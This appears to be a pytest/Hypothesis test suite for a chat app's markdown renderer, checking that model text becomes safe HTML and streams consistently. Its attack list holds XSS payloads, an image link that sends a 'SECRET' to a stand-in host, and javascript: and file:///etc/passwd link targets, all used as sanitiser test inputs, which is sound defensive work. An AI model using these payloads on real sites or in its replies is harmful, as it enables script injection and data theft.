"""Model text becomes safe HTML, and the same HTML however it arrives."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from chat.markdown import Block, BlockStreamer, SourceLabel, render, render_document

SOURCES = (SourceLabel(1, 42, "Manual"), SourceLabel(2, None, "Terms"), SourceLabel(3, 7, 'A "b" <c>'))
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\n\\href{javascript:alert(1)}{x} \\text{</math><script>alert(1)</script>}\n$$",
    "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>\nx\n```',
    "<!-- x --><?php x ?><![CDATA[x]]>",
    '[x](https://a.test/" onclick="alert(1))',
    "| <script> | b |\n| --- | --- |\n| <img src=x> | [a](javascript:1) |",
    "![x](https://evil.test/?q=SECRET)",
    "<iframe src=https://evil.test></iframe><base href=//evil.test>",
]
LINES = [
    "",
    "",
    " ",
    "word",
    "two words [1] [9]",
    "# heading",
    "---",
    "===",
    "***",
    "- item",
    "- ",
    "-",
    "  - nested",
    "  more",
    "    indented",
    "\tindented",
    "1. one",
    "2) two",
    "> quote",
    ">",
    "> - both",
    "```",
    "```python",
    "~~~",
    "a | b",
    "--- | ---",
    "| 1 | 2 |",
    "$$",
    "$$ x $$",
    "\\[",
    "\\]",
    "- $$",
    "  $$",
    "> $$",
    "x^2 $$",
    "[a]: https://a.test",
    "[a]",
    "<div>",
    "</div>",
    "שלום",
    "😀 **bold",
    "`code",
]
TEXTS = st.lists(
    st.tuples(st.sampled_from(LINES), st.sampled_from(["\n", "\n", "\n", "\r\n", "\r", "", "x"]))
).map(lambda pairs: "".join(line + end for line, end in pairs))


class Tags(HTMLParser):
    """Collects the tags and attributes of a piece of HTML."""

    def __init__(self, html: str) -> None:
        """Read it at once."""
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note one tag."""
        self.names.add(tag)
        self.attributes |= {name for name, _value in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def html_of(text: str) -> str:
    """All blocks of a text in one."""
    return "\n".join(block.html for block in render(text, SOURCES))


def streamed(text: str, cuts: list[int]) -> list[Block]:
    """The blocks of a text that arrives in pieces."""
    streamer = BlockStreamer(SOURCES)
    ends = sorted({min(cut, len(text)) for cut in cuts})
    return [block for end in ends for block in streamer.feed(text[:end])] + streamer.finish(text)


@settings(max_examples=150, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 400), max_size=30))
@example("- a\n\n-", [5, 6])
@example("$$\nfoo\n\n- a\n", [3, 7, 8])
@example("foo\n$$\nbar\n\nx $$", [4, 7, 11])
def test_streamed_blocks_equal_the_finished_text_however_it_is_cut(text: str, cuts: list[int]) -> None:
    assert streamed(text, cuts) == render(text, SOURCES)


@settings(max_examples=150, deadline=None)
@given(TEXTS)
def test_streamed_blocks_equal_the_finished_text_character_by_character(text: str) -> None:
    assert streamed(text, list(range(len(text) + 1))) == render(text, SOURCES)


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from("ab \n\t\r-*_`~#>|$\\[](){}<>!1.:&;=\0😀ש"), max_size=60), st.data())
def test_streamed_blocks_equal_the_finished_text_whatever_the_characters(
    text: str, data: st.DataObject
) -> None:
    cuts = data.draw(st.lists(st.integers(0, 60)))

    blocks = streamed(text, cuts)

    assert blocks == render(text, SOURCES)
    assert [block.start for block in blocks] == [0, *(block.end for block in blocks)][: len(blocks)]
    assert text[blocks[-1].end if blocks else 0 :].strip(" \t\r\n") == ""


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*ATTACKS, *LINES])).map("\n".join))
def test_nothing_but_listed_html_comes_out_whatever_goes_in(text: str) -> None:
    tags = Tags(html_of(text))

    assert not tags.names & {"script", "img", "svg", "style", "iframe", "base", "mglyph", "link", "form"}
    assert not {name for name in tags.attributes if name.startswith("on") or name in ("style", "id")}
    assert all(re.match(r"https?://|mailto:|#source-[123]$", link) for link in tags.links)


@pytest.mark.parametrize("attack", ATTACKS)
def test_partial_blocks_are_as_safe_as_whole_ones_when_an_attack_streams_in(attack: str) -> None:
    blocks = streamed(f"{attack}\n\nafter\n\n{attack}", list(range(200)))

    tags = Tags("".join(block.html for block in blocks))
    assert not tags.names & {"script", "img", "svg", "style", "iframe", "base"}


def test_html_is_shown_as_text_when_a_model_writes_it() -> None:
    assert html_of("<script>alert(1)</script>") == '<p dir="auto">&lt;script&gt;alert(1)&lt;/script&gt;</p>'


@pytest.mark.parametrize(
    "target",
    [
        *(
            "javascript:1",
            "JaVaScRiPt&#58;1",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:x",
            "//evil.test/x",
        ),
        *(
            "\\\\evil.test\\x",
            "/relative",
            "#top",
            "#source-1",
            "x.html",
            "ftp://a.test",
            "https://",
            "http:///x",
        ),
        *(
            "https://good.test@evil.test/",
            "https://evil.test\\@good.test",
            "java\tscript:1",
            "file:///etc/passwd",
        ),
        *("mailto:", "mailto:nobody", "https://a.test:x/", "http:/evil.test", "https:evil.test"),
    ],
)
def test_link_stays_text_when_it_is_not_an_absolute_web_or_mail_address(target: str) -> None:
    assert "<a" not in html_of(f"[a]({target})")
    assert "<a" not in html_of(f"[a](<{target}>)")


def test_link_shows_its_host_when_its_text_says_something_else() -> None:
    html = html_of("[click](https://evil.test/?d=SECRET)")

    assert 'href="https://evil.test/?d=SECRET"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert 'title="https://evil.test/?d=SECRET"' in html
    assert '<span class="link-host" dir="ltr">(evil.test)</span>' in html
    assert "(evil.test)" in html_of("[https://good.test](https://evil.test/)")
    assert "(evil.test)" in html_of("[good.test/evil.test](https://evil.test/)")
    assert "(a@evil.test)" in html_of("[write](mailto:a@evil.test)")


def test_link_is_not_followed_by_its_host_when_its_text_says_it() -> None:
    for text in (
        "[https://a.test/x](https://a.test/y)",
        "[a.test](https://a.test/)",
        "<https://a.test/?d=S>",
    ):
        assert "link-host" not in html_of(text)
    assert ">https://a.test/?d=S</a>" in html_of("<https://a.test/?d=S>")
    assert "link-host" not in html_of("[a@a.test](mailto:a@a.test)")


def test_link_is_shown_in_punycode_when_its_host_has_foreign_letters() -> None:
    assert ">https://xn--80ak6aa92e.com</a>" in html_of("<https://аррӏе.com>")
    assert "(xn--80ak6aa92e.com)" in html_of("[https://аррӏе.com](https://аррӏе.com)")


def test_image_becomes_a_link_nobody_fetches() -> None:
    html = html_of("![chart](https://evil.test/?q=1)")

    assert "<img" not in html
    assert "(evil.test)" in html


def test_citation_becomes_a_mark_when_the_source_exists() -> None:
    html = html_of("Two years [1]. Also [3][2].")

    assert (
        'Two years\u2060<a class="cite" href="#source-1" data-n="1" dir="auto" '
        'aria-label="Source 1, Manual, p. 42" rel="noopener noreferrer nofollow">'
        "<b>1</b>&nbsp;<span>p. 42</span></a>." in html
    )
    assert 'aria-label="Source 3, A &quot;b&quot; &lt;c&gt;, p. 7"' in html
    assert "<b>2</b></a>." in html


@pytest.mark.parametrize(
    "text",
    [
        *(
            "[0]",
            "[4]",
            "[99]",
            "[01x]",
            "[1",
            "`a[1]`",
            "$a[1]$",
            "    a[1]",
            "```\na[1]\n```",
            "$$\na[1]\n$$",
        ),
        *("[1](javascript:alert(1))", "\\[1\\]", "[1](https://a.test)"),
    ],
)
def test_citation_stays_as_it_is_when_it_is_none(text: str) -> None:
    assert "cite" not in html_of(text)


def test_code_is_coloured_and_named_when_its_language_is_known() -> None:
    html = html_of("```python\nimport x  # y\n```")

    assert '<div class="code" dir="ltr"><div class="code-head"><span>Python</span>' in html
    assert (
        '<button type="button" class="icon-btn icon-btn-s" data-copy-code="" aria-label="Copy code"' in html
    )
    assert '<span class="kn">import</span>' in html
    assert "style=" not in html


def test_code_is_kept_to_the_letter_when_its_language_is_unknown() -> None:
    assert "<span>klingon</span>" in html_of("```klingon\na < b\n```")
    assert "<code>a &lt; b\n</code>" in html_of("```klingon\na < b\n```")


@pytest.mark.parametrize(
    "text", ["$$\n\\frac{a}{b}\n$$", "\\[ \\frac{a}{b} \\]", "So:\n$$\\frac{a}{b}$$.\nx"]
)
def test_formula_is_mathml_in_a_box_when_it_stands_alone(text: str) -> None:
    assert '<div class="maths"><math display="block"><mrow><mfrac>' in html_of(text)


@pytest.mark.parametrize("text", ["$x$ is 5", "is \\(x\\) so", "**$x$**", "($x$)"])
def test_formula_is_mathml_when_it_is_in_a_sentence(text: str) -> None:
    assert "<math><mrow><mi>x</mi></mrow></math>" in html_of(text)


@pytest.mark.parametrize(
    "text", ["$5 and $10", "is $5, not 6$", "5$ or 6$", "$ x $", "\\$x$", "$", "$$", "$$$$"]
)
def test_dollars_stay_dollars_when_there_is_no_formula(text: str) -> None:
    assert "<math" not in html_of(text)


@pytest.mark.parametrize(
    "latex", ["\\frac{a}", "x_", "\\begin{matrix}", "\\left(", "x" * 1001, "{" * 900, "a^b^c"]
)
def test_formula_shows_its_source_when_it_cannot_be_read(latex: str) -> None:
    html = html_of(f"$$\n{latex}\n$$")

    assert "<math" in html or '<code dir="ltr">' in html


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(["\\frac", "{", "}", "x", "_", "^", "\\left(", "\\right)", "\\begin{matrix}", "&"])
    )
)
def test_formula_never_breaks_the_reply_whatever_it_holds(parts: list[str]) -> None:
    assert html_of("$$\n" + " ".join(parts) + " 1\n$$")


def test_table_scrolls_in_its_own_box_and_numbers_keep_right() -> None:
    html = html_of("| a | b |\n| :-- | --: |\n| 1 | 2 |")

    assert html.startswith('<div class="prose-table"><table')
    assert '<th scope="col" class="num" dir="auto">b</th>' in html
    assert '<td class="num" dir="auto">2</td>' in html


def test_headings_start_at_the_third_level_and_paragraphs_find_their_direction() -> None:
    assert html_of("# a\n\n## b\n\n###### c").count('dir="auto"') == 3
    assert "<h3" in html_of("# a")
    assert "<h4" in html_of("## b")
    assert '<p dir="auto">שלום</p>' in html_of("שלום")


def test_list_and_quote_run_from_the_right_when_their_first_letter_does() -> None:
    assert html_of("- **שלום** x\n- y").startswith('<ul dir="rtl">\n<li dir="auto">')
    assert html_of("> 1. שלום").startswith('<blockquote dir="rtl">\n<ol dir="rtl">')
    assert html_of("3. a").startswith('<ol start="3" dir="ltr">')


@pytest.mark.parametrize(
    ("so_far", "count"),
    [
        ("# Title\n", 1),
        ("One line", 0),
        ("One line\n", 0),
        ("One line\n\n", 1),
        ("- a\n- b\n\n", 0),
        ("- a\n- b\n\nT", 1),
        ("- a\n- b\n\n- ", 0),
        ("```\ncode\n", 0),
        ("```\ncode\n```\n", 1),
        ("$$\nx\n", 0),
        ("$$\nx\n$$\n", 1),
    ],
)
def test_block_is_sent_as_soon_as_it_is_final(so_far: str, count: int) -> None:
    streamer = BlockStreamer(SOURCES)

    assert sum(len(streamer.feed(so_far[:end])) for end in range(len(so_far) + 1)) == count


def test_offsets_count_code_points_and_leave_no_gap() -> None:
    text = "😀😀\r\n\r\nb\n\n\nc\n"

    assert [(block.start, block.end) for block in render(text, ())] == [(0, 4), (4, 8), (8, 12)]


def test_document_wraps_each_block_with_its_place() -> None:
    html = render_document("a\n\n<b>", SOURCES)

    assert html == (
        '<div class="block" data-block="0" data-start="0" data-end="2"><p dir="auto">a</p></div>\n'
        '<div class="block" data-block="1" data-start="2" data-end="6"><p dir="auto">&lt;b&gt;</p></div>'
    )
    assert render_document("", SOURCES) == ""


@pytest.mark.parametrize(
    "part", ["[" * 5000, ">" * 5000, "*" * 5000, "$" * 5000, "- " * 2000, "`a" * 2000, "\\(" * 2000]
)
def test_rendering_survives_when_the_text_is_made_to_be_slow(part: str) -> None:
    assert render(part * (6000 // len(part)), SOURCES)
